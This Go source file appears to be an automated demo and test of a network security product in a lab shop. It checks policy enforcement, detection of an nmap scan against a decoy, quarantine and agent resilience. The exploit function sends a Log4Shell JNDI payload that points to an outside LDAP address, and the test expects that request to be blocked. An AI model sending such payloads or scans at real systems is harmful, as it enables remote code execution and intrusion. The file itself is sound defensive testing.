package demo

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"time"

	"bocage.dev/bocage"
	"bocage.dev/bocage/inspection/profiles"
	"bocage.dev/bocage/manifest"
)

// dataCenter stands up the shop, its client and the attacker, and joins h2.
func (d *demo) dataCenter(ctx context.Context) error {
	if err := d.lab.Start(ctx); err != nil {
		return err
	}
	d.held("nginx web, Go api, PostgreSQL db, Redis cache, a client and a red box, each in its own namespace")
	token, err := d.cli.must(ctx, 0, "", "agent", "token", "h2")
	if err != nil {
		return err
	}
	if _, err := write(d.dir, "h2.token", token.out); err != nil {
		return err
	}
	if err := d.startNode("h2"); err != nil {
		return err
	}
	took, err := within(ctx, 20*time.Second, "the agent of h2 joins", func() (bool, error) {
		var hosts struct{ Items []bocage.Host }
		err := d.cli.read(ctx, &hosts, "get", "hosts", "-o", "json")
		return len(hosts.Items) == 2, err
	})
	if err != nil {
		return err
	}
	d.held("the agent of h2 joined with a one-time token after %.1f s", took.Seconds())
	var workloads strings.Builder
	var resources []bocage.Resource
	for _, w := range d.lab.Workloads() {
		resources = append(resources, w)
	}
	if err := manifest.Write(&workloads, resources...); err != nil {
		return err
	}
	if _, err := d.cli.must(ctx, 0, workloads.String(), "apply", "-f", "-"); err != nil {
		return err
	}
	took, err = d.inForce(ctx, len(resources))
	if err != nil {
		return err
	}
	d.held("%d workloads declared; an enforcement point stands on the host side of each after %.2f s", len(resources), took.Seconds())
	return d.shopWorks(ctx, "orders go through web → api → db and cache")
}

// inForce waits until every host enforces the active generation on so many ports.
func (d *demo) inForce(ctx context.Context, ports int) (time.Duration, error) {
	return within(ctx, 15*time.Second, "the active generation is in force on every host", func() (bool, error) {
		active, err := d.active(ctx)
		if err != nil {
			return false, err
		}
		var hosts struct{ Items []bocage.Host }
		if err := d.cli.read(ctx, &hosts, "get", "hosts", "-o", "json"); err != nil {
			return false, err
		}
		stand := 0
		for _, h := range hosts.Items {
			if h.Status.Generation != active {
				return false, nil
			}
			stand += h.Status.Ports
		}
		return ports == 0 || stand == ports, nil
	})
}

func (d *demo) active(ctx context.Context) (uint64, error) {
	var generations struct{ Items []bocage.Generation }
	if err := d.cli.read(ctx, &generations, "get", "generations", "-o", "json"); err != nil {
		return 0, err
	}
	for _, g := range generations.Items {
		if g.Status.Active {
			return g.Status.Number, nil
		}
	}
	return 0, errors.New("no generation is active")
}

// shopWorks asserts that new orders succeed from here on.
func (d *demo) shopWorks(ctx context.Context, what string) error {
	before, err := d.lab.Load()
	if err != nil {
		return err
	}
	after := before
	_, err = within(ctx, 10*time.Second, "50 more orders succeed", func() (bool, error) {
		after, err = d.lab.Load()
		return err == nil && after.OK >= before.OK+50, err
	})
	if err != nil {
		return err
	}
	if failed := after.Failed - before.Failed; failed != 0 {
		return fmt.Errorf("%d of %d orders failed meanwhile", failed, after.OK-before.OK+failed)
	}
	d.held("%s: %d more orders, 0 failed", what, after.OK-before.OK)
	return nil
}

// settled waits until orders that hung in cut connections have run out.
func (d *demo) settled(ctx context.Context) error {
	last, err := d.lab.Load()
	if err != nil {
		return err
	}
	_, err = within(ctx, 20*time.Second, "orders succeed again one after another", func() (bool, error) {
		load, err := d.lab.Load()
		if err == nil && load.Failed != last.Failed {
			last = load
		}
		return err == nil && load.OK >= last.OK+60, err
	})
	return err
}

// observe asserts that flows carry identities, verdict, reason and decision.
func (d *demo) observe(ctx context.Context) error {
	var seen bocage.FlowRecord
	_, err := within(ctx, 15*time.Second, "a flow from client to web is reported", func() (bool, error) {
		records, err := d.flows(ctx, "--from", "users/client", "--to", "shop/web", "--port", "80")
		for _, r := range records {
			if r.Reason == bocage.ReasonDefaultDeny && r.Verdict == bocage.VerdictAllow && r.Would == bocage.VerdictDrop && r.Decision != 0 && r.Generation != 0 {
				seen = r
				return true, nil
			}
		}
		return false, err
	})
	if err != nil {
		return err
	}
	d.held("a flow with identities %d and %d, verdict %s, reason %s, decision %s; enforced it would be: %s",
		seen.Source, seen.Destination, seen.Verdict, seen.Reason, seen.Decision, seen.Would)
	text, err := d.cli.must(ctx, 0, "", "observe", "--would-refuse", "--limit", "4", "-o", "table")
	if err != nil {
		return err
	}
	d.show(text.out)
	return nil
}

func (d *demo) flows(ctx context.Context, args ...string) ([]bocage.FlowRecord, error) {
	result, err := d.cli.must(ctx, 0, "", append([]string{"observe", "-o", "jsonl"}, args...)...)
	if err != nil {
		return nil, err
	}
	return decodeLines[bocage.FlowRecord](result.out)
}

const guardrails = `apiVersion: bocage.dev/v1
kind: Guardrail
metadata: {name: pci}
spec:
  description: cardholder data is out of reach for development
  match: {to: {data: [pci]}}
  never: [{from: {workload: {matchLabels: {env: dev}}}}]
---
apiVersion: bocage.dev/v1
kind: Guardrail
metadata: {name: inspect-api}
spec:
  match:
    from: {namespaces: [shop], workload: {matchLabels: {app: web}}}
    to: {namespaces: [shop], workload: {matchLabels: {app: api}}}
  require: {inspect: web-attacks}
---
apiVersion: bocage.dev/v1
kind: Decoy
metadata: {name: ssh}
spec: {protocol: ssh, port: 22, for: {namespaces: [shop]}}
---
apiVersion: bocage.dev/v1
kind: Scope
metadata: {name: shop}
spec: {namespaces: [shop], mode: enforce}
`

// enforce goes the way of a user: suggest, complete, plan, apply.
func (d *demo) enforce(ctx context.Context) error {
	var documents []manifest.Document
	took, err := within(ctx, 45*time.Second, "every service of the shop is suggested", func() (bool, error) {
		suggested, err := d.cli.run(ctx, "", "policy", "suggest", "-n", "shop,users")
		if err != nil || suggested.code != 0 {
			return false, err
		}
		var faults bocage.Faults
		if documents, faults = manifest.Read("suggested", []byte(suggested.out)); len(faults) > 0 {
			return true, fmt.Errorf("what was suggested does not read: %w", faults)
		}
		return len(documents) == 5, fmt.Errorf("suggested so far:\n%s%s", suggested.out, suggested.err)
	})
	if len(documents) != 5 {
		return err
	}
	d.held("bocage policy suggest wrote %d Applications from what was seen (after %.1f s)", len(documents), took.Seconds())
	// What passes at an interface only its owner knows: db holds card data.
	var resources []bocage.Resource
	classified := false
	for _, document := range documents {
		if app, ok := document.Resource.(*bocage.Application); ok && app.Namespace == "shop" && app.Spec.Workload.MatchLabels["app"] == "db" {
			for i := range app.Spec.Provides {
				app.Spec.Provides[i].Data = []string{"pci"}
				classified = true
			}
		}
		resources = append(resources, document.Resource)
	}
	if !classified {
		return errors.New("no Application for db was suggested")
	}
	resources = append(resources, &bocage.InspectionProfile{
		TypeMeta:   bocage.TypeMeta{APIVersion: bocage.APIVersion, Kind: "InspectionProfile"},
		ObjectMeta: bocage.ObjectMeta{Name: "web-attacks"},
		Spec:       bocage.InspectionProfileSpec{Signatures: profiles.Starter()["web-attacks"]},
	})
	var text strings.Builder
	if err := manifest.Write(&text, resources...); err != nil {
		return err
	}
	shop, err := write(d.dir, "shop.yaml", text.String())
	if err != nil {
		return err
	}
	rails, err := write(d.dir, "guardrails.yaml", guardrails)
	if err != nil {
		return err
	}
	if _, err := d.cli.must(ctx, 3, "", "plan", "-f", shop, "-f", rails); err != nil {
		return err
	}
	d.held("bocage plan: proofs hold, reach would change (exit code 3)")
	if _, err := d.cli.must(ctx, 0, "", "apply", "-f", shop, "-f", rails); err != nil {
		return err
	}
	took, err = d.inForce(ctx, 0)
	if err != nil {
		return err
	}
	d.held("applied and enforced on both hosts after %.2f s", took.Seconds())
	if err := d.proved(ctx); err != nil {
		return err
	}
	if err := d.inspectionReady(ctx); err != nil {
		return err
	}
	if err := d.shopWorks(ctx, "the shop keeps working under enforcement"); err != nil {
		return err
	}
	return d.refusals(ctx)
}

// inspectionReady waits until steered flows have an engine on every host.
func (d *demo) inspectionReady(ctx context.Context) error {
	_, err := within(ctx, 30*time.Second, "every host is ready", func() (bool, error) {
		var hosts struct{ Items []bocage.Host }
		if err := d.cli.read(ctx, &hosts, "get", "hosts", "-o", "json"); err != nil {
			return false, err
		}
		var unready []error
		for _, h := range hosts.Items {
			for _, c := range h.Status.Conditions {
				if c.Type == bocage.ConditionReady && c.Status != "True" {
					unready = append(unready, fmt.Errorf("%s: %s", h.Name, c.Message))
				}
			}
		}
		return len(unready) == 0, errors.Join(unready...)
	})
	return err
}

func (d *demo) proved(ctx context.Context) error {
	var generations struct{ Items []bocage.Generation }
	if err := d.cli.read(ctx, &generations, "get", "generations", "-o", "json"); err != nil {
		return err
	}
	for _, g := range generations.Items {
		if !g.Status.Active {
			continue
		}
		for _, proof := range g.Status.Proofs {
			if !proof.Holds {
				return fmt.Errorf("an active generation has a failed proof: %s", proof.Statement)
			}
			if proof.By.Name == "pci" && strings.HasPrefix(proof.By.Field, "spec.never") {
				d.held("proved over all pairs: %s (%s)", proof.Statement, proof.By)
				return nil
			}
		}
	}
	return errors.New("no proof of guardrail pci is recorded in the active generation")
}

// refusals asserts that a forbidden connection fails in both directions and that
// explain names what decided.
func (d *demo) refusals(ctx context.Context) error {
	for _, c := range []struct {
		from, to string
		port     uint16
		kind     string
	}{
		{"users/client", "shop/db", 5432, "default-deny"},
		{"shop/db", "users/client", 9999, "default-deny"},
		{"dev/red", "shop/db", 5432, "Guardrail pci spec.never[0]"},
	} {
		open, err := d.lab.Connects(ctx, c.from, c.to, c.port, 700*time.Millisecond)
		if err != nil {
			return err
		}
		if open {
			return fmt.Errorf("%s reached %s on port %d, which nothing allows", c.from, c.to, c.port)
		}
		told, err := d.cli.must(ctx, 4, "", "explain", c.from, c.to, fmt.Sprint(c.port))
		if err != nil {
			return err
		}
		if !strings.Contains(told.out, c.kind) {
			return fmt.Errorf("explain %s %s %d does not name %q:\n%s", c.from, c.to, c.port, c.kind, told.out)
		}
		d.held("%s → %s:%d is refused, and explain names what decided: %s", c.from, c.to, c.port, c.kind)
	}
	allowed, err := d.cli.must(ctx, 0, "", "explain", "shop/web", "shop/api", "8080")
	if err != nil {
		return err
	}
	d.show(allowed.out)
	return nil
}

// section returns nmap's report of one address, or "" if it has none.
func section(report, address string) string {
	_, rest, found := strings.Cut(report, "Nmap scan report for "+address+"\n")
	if !found {
		return ""
	}
	text, _, _ := strings.Cut(rest, "Nmap scan report for ")
	return text
}

func lineWith(text, part string) string {
	for line := range strings.Lines(text) {
		if strings.Contains(line, part) {
			return line
		}
	}
	return ""
}

// decodeLines reads JSON lines.
func decodeLines[T any](text string) ([]T, error) {
	var values []T
	decoder := json.NewDecoder(strings.NewReader(text))
	for decoder.More() {
		var value T
		if err := decoder.Decode(&value); err != nil {
			return nil, err
		}
		values = append(values, value)
	}
	return values, nil
}

// scan asserts what an attacker meets and what recognition makes of it.
func (d *demo) scan(ctx context.Context) error {
	db, dark := d.lab.Address("shop/db").String(), d.lab.UnusedAddress().String()
	begun := time.Now()
	type scanned struct {
		out string
		err error
	}
	result := make(chan scanned, 1)
	go func() {
		out, err := d.lab.Run(ctx, "dev/red", "nmap", "-n", "-T4", "--max-retries", "1", "--host-timeout", "60s",
			"-sS", "-p", "21-25,80,443,3306,5432,6379,8080", db, d.lab.Address("shop/cache").String(), d.lab.Address("shop/api").String(), dark)
		result <- scanned{out, err}
	}()
	var incidents struct{ Items []bocage.Incident }
	_, err := within(ctx, 30*time.Second, "recognition raises an incident for the scan", func() (bool, error) {
		err := d.cli.read(ctx, &incidents, "get", "incidents", "-o", "json")
		return len(incidents.Items) > 0, err
	})
	if err != nil {
		return err
	}
	seen := time.Now()
	scan := <-result
	if scan.err != nil {
		return scan.err
	}
	probes, err := d.flows(ctx, "--from", "dev/red")
	if err != nil {
		return err
	}
	first := seen
	for _, probe := range probes {
		if !probe.Would.Allowed() && probe.Reason != bocage.ReasonDarkAddress && probe.Time.After(begun) && probe.Time.Before(first) {
			first = probe.Time
		}
	}
	took := seen.Sub(first)
	ports := section(scan.out, db)
	if !strings.Contains(ports, "22/tcp   open     ssh") || !strings.Contains(ports, "5432/tcp filtered") {
		return fmt.Errorf("nmap sees of db:\n%s", scan.out)
	}
	if section(scan.out, dark) != "" {
		return fmt.Errorf("the unused address %s answered:\n%s", dark, scan.out)
	}
	d.held("nmap sees an SSH service at db's own address, where none runs; 5432 is filtered; unused %s is dark", dark)
	version, err := d.lab.Run(ctx, "dev/red", "nmap", "-n", "-Pn", "-sV", "-p", "22", db)
	if err != nil {
		return err
	}
	if !strings.Contains(version, "OpenSSH") {
		return fmt.Errorf("nmap -sV does not take the decoy for OpenSSH:\n%s", version)
	}
	d.held("nmap -sV takes the decoy for %s", strings.TrimSpace(lineWith(version, "22/tcp")))
	if took > 2*time.Second {
		return fmt.Errorf("the incident came %s after the first probe of the scan", took)
	}
	if err := d.cli.read(ctx, &incidents, "get", "incidents", "-o", "json"); err != nil {
		return err
	}
	if len(incidents.Items) != 1 {
		return fmt.Errorf("%d incidents for one scan", len(incidents.Items))
	}
	incident := incidents.Items[0]
	if !attackerIs(incident, "dev/red") || len(incident.Status.Evidence) == 0 || len(incident.Status.Evidence[0].Records) == 0 {
		return fmt.Errorf("the incident does not name dev/red with its evidence: %+v", incident.Status)
	}
	d.held("one incident %.2f s after the first probe, with its evidence", took.Seconds())
	text, err := d.cli.must(ctx, 0, "", "incident", "show", incident.Name)
	if err != nil {
		return err
	}
	d.show(text.out)
	return nil
}

func attackerIs(incident bocage.Incident, name string) bool {
	for _, entity := range incident.Status.Entities {
		if entity.Name == name && entity.Role == "attacker" {
			return true
		}
	}
	return false
}

const exploitPath = "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F10.77.0.66%3A1389%2Fa%7D"

// exploit sends a request that policy allows and the engine must not.
func (d *demo) exploit(ctx context.Context) error {
	harmless, err := d.lab.Get(ctx, "shop/web", "shop/api", 8080, "/search?q=tea", nil)
	if err != nil || harmless.Status != 200 {
		return fmt.Errorf("a harmless request over the inspected path: %v: %w", harmless, err)
	}
	d.held("a harmless request from web to api over the inspected path: status %d", harmless.Status)
	if d.doomed, err = d.lab.Hold(ctx, "users/client", "shop/web", 80); err != nil {
		return fmt.Errorf("open a connection that is to be cut: %w", err)
	}
	attempt, cancel := context.WithTimeout(ctx, 2*time.Second)
	defer cancel()
	d.exploited = time.Now()
	answer, err := d.lab.Get(attempt, "shop/web", "shop/api", 8080, exploitPath,
		map[string]string{"User-Agent": "${jndi:ldap://10.77.0.66:1389/a}"})
	if err == nil {
		return fmt.Errorf("the exploit request was answered: %v", answer)
	}
	d.held("an exploit request from web to api gets no answer: the inspection engine blocks it")
	records, err := d.flows(ctx, "--verdict", "inspect")
	if err != nil {
		return err
	}
	for _, r := range records {
		if r.SourceWorkload != "shop/web" || r.DestinationWorkload != "shop/api" {
			return fmt.Errorf("%s → %s was steered through the engine without a duty", r.SourceWorkload, r.DestinationWorkload)
		}
	}
	if len(records) == 0 {
		return errors.New("no flow was reported as inspected")
	}
	d.held("%d flow reports say inspected, all of them web → api: no other path touches the engine", len(records))
	return nil
}

// contain asserts that recognition's condition becomes policy and ends.
func (d *demo) contain(ctx context.Context) error {
	defer d.doomed.Close()
	var cut bocage.FlowRecord
	if _, err := within(ctx, 5*time.Second, "web is refused as quarantined", func() (bool, error) {
		records, err := d.flows(ctx, "--verdict", "drop")
		for _, r := range records {
			if r.Reason == bocage.ReasonQuarantine && r.Time.After(d.exploited) {
				cut = r
				return true, nil
			}
		}
		return false, err
	}); err != nil {
		return err
	}
	took := cut.Time.Sub(d.exploited)
	if took > time.Second {
		return fmt.Errorf("the first packet was refused %s after the exploit", took)
	}
	d.held("web is quarantined: the first packet refused for it came %.2f s after the exploit was sent", took.Seconds())
	if d.doomed.Alive(ctx, 700*time.Millisecond) {
		return errors.New("a connection that was established before still passes")
	}
	d.held("a connection that client had established before is cut")
	var conditions struct{ Items []bocage.ThreatCondition }
	if err := d.cli.read(ctx, &conditions, "get", "threatconditions", "-o", "json"); err != nil {
		return err
	}
	named := false
	for _, c := range conditions.Items {
		if c.Spec.Workload == "shop/web" && c.Spec.Level == bocage.LevelQuarantine {
			named = true
			d.held("because of ThreatCondition %s, until %s: %s", c.Name, c.Spec.Expires.Local().Format(time.TimeOnly), c.Spec.Reason)
		}
	}
	if !named {
		return fmt.Errorf("no threat condition quarantines shop/web: %+v", conditions.Items)
	}
	if err := d.lab.Query(ctx, "shop/api"); err != nil {
		return fmt.Errorf("the rest of the shop does not work: %w", err)
	}
	d.held("the rest of the shop works: api writes to db and cache and reads back")
	if _, err := within(ctx, 2*quarantineFor+10*time.Second, "web is back", func() (bool, error) {
		return d.lab.Connects(ctx, "users/client", "shop/web", 80, 200*time.Millisecond)
	}); err != nil {
		return err
	}
	d.held("the condition expired by itself and web is back %.1f s after the exploit", time.Since(d.exploited).Seconds())
	if err := d.settled(ctx); err != nil {
		return err
	}
	return d.shopWorks(ctx, "orders flow again")
}

// kill ends agents the hard way under traffic and counts what is lost.
func (d *demo) kill(ctx context.Context) error {
	probe, err := d.lab.Probe(ctx, "shop/api", "shop/cache", 6379)
	if err != nil {
		return err
	}
	before, err := d.lab.Load()
	if err != nil {
		return err
	}
	for _, hostName := range []string{"h2", "h1"} {
		if err := d.kill9(ctx, hostName); err != nil {
			return err
		}
		if err := d.startNode(hostName); err != nil {
			return err
		}
		_, err := within(ctx, 30*time.Second, hostName+" reports again", func() (bool, error) {
			_, err := d.inForce(ctx, 0)
			return err == nil, nil
		})
		if err != nil {
			return err
		}
	}
	if err := d.shopWorks(ctx, "agents of both hosts, and the controller, were killed and came back"); err != nil {
		return err
	}
	result, err := probe.Stop()
	if err != nil {
		return err
	}
	after, err := d.lab.Load()
	if err != nil {
		return err
	}
	if result.Lost != 0 || after.Failed != before.Failed || after.Resets != before.Resets {
		return fmt.Errorf("lost %d of %d probes, %d orders failed, %d connections reset", result.Lost, result.Sent, after.Failed-before.Failed, after.Resets-before.Resets)
	}
	d.held("0 of %d probes lost, 0 of %d orders failed, 0 connections reset", result.Sent, after.OK-before.OK)
	return nil
}
